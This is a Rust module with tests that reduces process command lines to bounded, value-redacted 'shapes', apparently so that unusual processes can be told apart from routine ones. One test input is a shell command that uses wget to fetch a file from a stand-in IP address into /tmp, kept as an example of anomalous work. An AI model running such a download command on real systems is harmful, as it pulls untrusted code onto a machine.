//! The shape of a command line: its options, and how many words of which sort, so that the same work on other things is
//! the same behaviour.

use std::{collections::BTreeSet, fmt::Write as _};

/// Options that are told apart; the rest count as one more.
const OPTIONS: usize = 16;
/// Bytes of an option that count.
const OPTION_LENGTH: usize = 24;
/// Words of one sort that are counted: beyond, there are many.
const WORDS: u32 = 8;
/// Words that are looked at: a line of 32 KiB is not worth more than its beginning.
const LOOKED_AT: usize = 256;

/// The shape of a line of arguments, which begins with the program's own name for itself. Bounded: at most about 500
/// bytes.
pub(super) fn shape(command_line: &str) -> Box<str> {
    let mut options = BTreeSet::new();
    let [mut words, mut paths, mut urls, mut numbers] = [0; 4];
    for word in command_line.split_ascii_whitespace().skip(1).take(LOOKED_AT) {
        match word {
            option if option.starts_with('-') && option.len() > 1 => {
                options.insert(generalised(option));
            }
            url if url.contains("://") => urls += 1,
            path if path.contains('/') => paths += 1,
            number if number.starts_with(|first: char| first.is_ascii_digit()) => numbers += 1,
            _ => words += 1,
        }
    }
    let more = options.len() > OPTIONS;
    let mut shape = options.into_iter().take(OPTIONS).collect::<Vec<_>>().join(" ");
    if more {
        shape.push_str(" -…");
    }
    for (count, sort) in [(words, "word"), (paths, "path"), (urls, "url"), (numbers, "number")] {
        match count {
            0 => {}
            count if count > WORDS => {
                // Writing to a String cannot fail.
                let _ = write!(shape, " {sort}×many");
            }
            count => {
                let _ = write!(shape, " {sort}×{count}");
            }
        }
    }
    shape.trim_start().into()
}

/// An option without its value, its digits all alike. Where a value may follow a letter at once, as in `-pSECRET`, the
/// letter alone is kept: what was learned is shown and carried to other nodes.
fn generalised(option: &str) -> String {
    let name = option.split('=').next().unwrap_or_default();
    let holds_value = !name.starts_with("--") && !name[1..].bytes().all(|letter| letter.is_ascii_lowercase());
    if holds_value && name.chars().count() > 2 {
        return name.chars().take(2).chain(['…']).collect();
    }
    let letters = name.chars().take(OPTION_LENGTH);
    letters
        .map(|letter| if letter.is_ascii_digit() { '0' } else { letter })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(command_line: &str, expected: &str) {
        assert_eq!(&*shape(command_line), expected, "{command_line}");
    }

    #[test]
    fn the_same_work_on_other_things_has_the_same_shape() {
        check("", "");
        check("/manager", "");
        check("convert in.jpg -resize 640x480 out.png", "-resize word×2 number×1");
        check("convert a.jpg -resize 80x60 b.png", "-resize word×2 number×1");
        check("gs -dNOPAUSE -r300 -o out.png /srv/a.pdf", "-d… -o -r… word×1 path×1");
        check(
            "mysqldump -uroot -pS3cret! --password=x --all-databases",
            "--all-databases --password -p… -uroot",
        );
        check("/manager --leader-elect --port=8443", "--leader-elect --port");
        check("curl -s -H @/etc/header https://10.96.0.1/api", "-H -s path×1 url×1");
    }

    #[test]
    fn other_work_has_another() {
        check("sh -c id", "-c word×1");
        check("sh -c wget http://203.0.113.9/x -O /tmp/x", "-O -c word×1 path×1 url×1");
    }

    #[test]
    fn a_long_line_has_a_short_shape() {
        let many: Vec<_> = (0..300)
            .map(|number| format!("--{}{number} w", "x".repeat(number % 40)))
            .collect();
        let shape = shape(&format!("a {}", many.join(" ")));
        assert!(shape.len() < 600 && shape.ends_with("-… word×many"), "{shape}");
    }
}
